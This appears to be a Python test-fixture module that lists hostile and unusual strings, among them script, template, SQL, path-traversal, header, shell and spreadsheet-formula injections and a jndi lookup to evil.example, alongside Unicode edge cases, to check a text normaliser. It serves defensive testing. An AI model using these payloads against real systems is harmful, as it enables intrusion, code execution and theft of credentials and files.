"""More than two hundred strings that have broken programs, by what they were made to break."""

from council.wording.letters import normalised, problems_of

FLOOD = 70

OF_A_KIND: dict[str, list[str]] = {
    "script": [
        '<script>alert("1")</script>', "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/a.js></script>", "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
        '" autofocus onfocus=alert(1) x="', "' onmouseover='alert(1)", "` onclick=alert(1) `", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
        "JaVaScRiPt:alert(1)//", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "<style>@import'//evil.example/a.css';</style>", "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=csrf_token>", "<button formaction=//evil.example>",
        "<object data=javascript:alert(1)>", "<embed src=//evil.example/a.swf>", "<math><mtext><script>alert(1)</script>", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<!--<img src='--><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<x onpointerenter=alert(1)>x", "&lt;b&gt; &amp;nbsp; &#60;",
        "<dialog open><form method=dialog>", "<input type=hidden name=csrf_token value=x>", "<p style='position:fixed;inset:0'>x</p>", "]]><!--", "-->", "<b>", "<", ">", "&", "\"", "'", "`",
    ],
    "template": [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{self.__init__.__globals__}}", "{% include '/etc/passwd' %}", "{% raw %}", "{% endraw %}{{7*7}}", "{# x #}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__}}", "{%print(7*7)%}", "${{7*7}}", "@(7*7)", "*{7*7}", "~{7*7}", "{{url_for.__globals__['os'].popen('id').read()}}",
    ],
    "query": [
        "' OR 1=1 --", "'; DROP TABLE votes; --", "1' UNION SELECT password FROM persons --", "\" OR \"\"=\"", "1); DELETE FROM ballots; --", "' || (SELECT 1) || '", "%' OR '1'='1", "_%", "\\'; --", "/* x */",
        "admin'--", "1 AND SLEEP(5)", "'; SELECT pg_sleep(5); --", "$$;DROP TABLE x;$$", ":name", "?", "%s", "'; ATTACH DATABASE '/tmp/x' AS y; --",
    ],
    "directory": ["*)(uid=*))(|(uid=*", "*()|&'", "(&(objectClass=*))", "admin)(|(password=*)"],
    "formula": ["=1+1", "=cmd|'/C calc'!A1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\")", "|cmd", "%0A=1+1", "=1\t+1"],
    "path": [
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "C:\\boot.ini", "\\\\evil\\share", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/", "~/.ssh/id_rsa",
        "con.pdf", "/proc/self/environ", "php://filter", "a/./b", "http://169.254.169.254/", "gopher://127.0.0.1:6379/_x",
    ],
    "header": ["x%0d%0aSet-Cookie:a=b", "x\\r\\nBcc: all@evil.example", "a@example.org%0aBcc:b@evil.example", "=?utf-8?q?=0a=0dBcc:?=", "Content-Type: text/html", "To: all@evil.example"],
    "command": ["$(id)", "`id`", "; id", "| id", "&& id", "|| id", "$IFS", "%PATH%", "\\x41", "() { :;}; echo x"],
    "format": ["%s%s%s%n", "%(count)s", "{0}", "{count}", "{}", "%d", "%%", "%", "{", "}", "{{", "}}", "\\", "\\\\", "\\n", "\\0", "${jndi:ldap://evil.example/a}"],
    "structure": ['{"a": 1}', "[]", "null", "true", "None", "undefined", "NaN", "-0", "1e400", "0x1F", "1_000", "1,000.00", "1/0", "<?xml version='1.0'?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "a: b\n- c"],
    "writing": [
        "Ёё Ґґ Іі Її Өө Үү Ұұ Һһ Ҷҷ Ӯӯ Ӣӣ", "Əə Ğğ İı Şş", "Հայաստան", "საქართველო", "ﬁ", "Ⅷ", "№ § – — … « » „ “", "e\u0301\u0323", "И\u0306", "а\u0301кт", "K", "Å", "O‘zbekiston", "ß ſ", "ı I i İ",
        "paypаl", "Совeт", "АВС ABC", "0O1lI", "ѕсоре", "слово " * 30, "д" * 250, "a" * 250, "-" * 250, "' " * 100, "&amp;" * 50, "<b>" * 80,
        "1.", "1. Одобрить.\n2. Поручить.", " x ", "\tx", "\nx\n", "а\nб", "а\r\nб", "a\rb",
    ],
    "unseen": [
        "О\u202eвопрос", "О\u202dвопрос", "\u2066x\u2069", "\u200fx", "\u061cx", "а\u200bб", "а\u200dб", "а\u2060б", "\ufeffx", "а\u00adб", "\u180ex", "а\u034fб", "\U000e0041", "\ufff9x\ufffb", "\u2028x", "\u2029x",
    ],
    "controls": ["О\x00вопрос", "\x00", "а\x07б", "а\x1b[31mб", "а\x08б", "а\x7fб", "а\x85б", "а\x9bб", "а\x0bб", "а\x0cб", "а\x1fб", "\x01", "а\x04б"],
    "no_letters": [
        "\ue000", "\U0010ffff", "\ufffe", "\ufdd0", "\U00010348", "😀", "👩‍👩‍👧‍👦", "🇷🇺", "中文", "日本", "한글", "العربية", "עברית", "ไทย", "हिन्दी", "𝕏𝕐𝕫", "Ａ", "\u0378", "\ufffd", "１", "٣", "\U0001d400", "﷽", "\ufe0f", "☃", "⁂\u20e3",
    ],
    "stacked": ["Z\u0351\u036b\u0343\u036a\u0302", "а" + "\u0301" * 40, "и" + "\u0306\u0301\u0323\u0302", "o" + "\u0338" * 10, "а" + "\u0488" * 9, "а\ufe00б", "а" + "\u0301" * FLOOD],
}  # fmt: skip

HOSTILE = {f"{kind} {at}": text for kind, texts in OF_A_KIND.items() for at, text in enumerate(texts)}
# What may stand in the record stands there as it was typed; anything else is refused by the name of its letter.
# What stands at the edges goes with the spaces there, and is no problem of anybody.
PRINTED = {name: text for name, text in HOSTILE.items() if not problems_of(normalised(text).strip())}
REFUSED = {name: text for name, text in HOSTILE.items() if name not in PRINTED}


def named_in(text: str) -> str:
    """Return by what name the first letter that is refused is told."""
    return problems_of(normalised(text).strip())[0].code_point


def as_shown(text: str) -> str:
    """Return the words of a text as a page or a paper shows them: letters composed, spaces folded."""
    return " ".join(normalised(text).split())
